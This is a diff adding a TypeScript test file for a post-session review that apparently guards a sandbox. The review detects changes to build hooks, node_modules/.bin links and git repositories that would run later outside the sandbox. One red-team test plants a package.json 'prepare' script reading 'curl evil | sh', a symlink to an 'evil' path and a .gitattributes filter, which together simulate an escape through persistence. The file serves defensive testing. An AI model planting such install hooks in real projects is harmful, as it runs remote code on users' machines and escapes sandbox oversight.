@@ -1,0 +1,60 @@
+// The review after a session: what changed that runs later outside the sandbox, on a real
+// directory.
+
+import assert from 'node:assert/strict';
+import { mkdirSync, mkdtempSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { after, describe, it } from 'node:test';
+import { compareReview, snapshotReview } from '../src/review.js';
+
+const made: string[] = [];
+after(() => {
+  for (const d of made) rmSync(d, { recursive: true, force: true });
+});
+
+function workspace(): string {
+  const ws = mkdtempSync(join(tmpdir(), 'perimeter-review-'));
+  made.push(ws);
+  writeFileSync(join(ws, 'package.json'), '{}');
+  writeFileSync(join(ws, 'README.md'), 'hello');
+  mkdirSync(join(ws, '.git'));
+  mkdirSync(join(ws, 'node_modules/.bin'), { recursive: true });
+  symlinkSync('../tsc/bin/tsc', join(ws, 'node_modules/.bin/tsc'));
+  return ws;
+}
+
+describe('the review after a session', () => {
+  it('reports nothing when nothing that runs later changed', () => {
+    const ws = workspace();
+    const before = snapshotReview(ws, [join(ws, '.git')]);
+    writeFileSync(join(ws, 'README.md'), 'edited'); // ordinary work
+    assert.deepEqual(compareReview(before), { changed: [], newRepositories: [] });
+  });
+
+  it('redteam-41 redteam-46: reports changed, added and removed build files and node_modules/.bin entries', () => {
+    const ws = workspace();
+    const before = snapshotReview(ws, [join(ws, '.git')]);
+    writeFileSync(join(ws, 'package.json'), '{"scripts":{"prepare":"curl evil | sh"}}');
+    writeFileSync(join(ws, '.gitattributes'), '*.c filter=x\n');
+    rmSync(join(ws, 'node_modules/.bin/tsc'));
+    symlinkSync('../../evil', join(ws, 'node_modules/.bin/tsc'));
+    writeFileSync(join(ws, 'node_modules/.bin/eslint'), '#!/bin/sh\n');
+    const found = compareReview(before);
+    assert.deepEqual([...found.changed].sort(), [
+      '.gitattributes',
+      'node_modules/.bin/eslint',
+      'node_modules/.bin/tsc',
+      'package.json',
+    ]);
+  });
+
+  it('redteam-29: reports repositories created during the session, but not the empty mount points of masks', () => {
+    const ws = workspace();
+    const before = snapshotReview(ws, [join(ws, '.git')]);
+    mkdirSync(join(ws, 'sub/.git'), { recursive: true });
+    mkdirSync(join(ws, 'other/.git'), { recursive: true }); // stands in for a mask's mount point
+    const found = compareReview(before, [join(ws, 'other/.git')]);
+    assert.deepEqual(found.newRepositories, ['sub/.git']);
+  });
+});
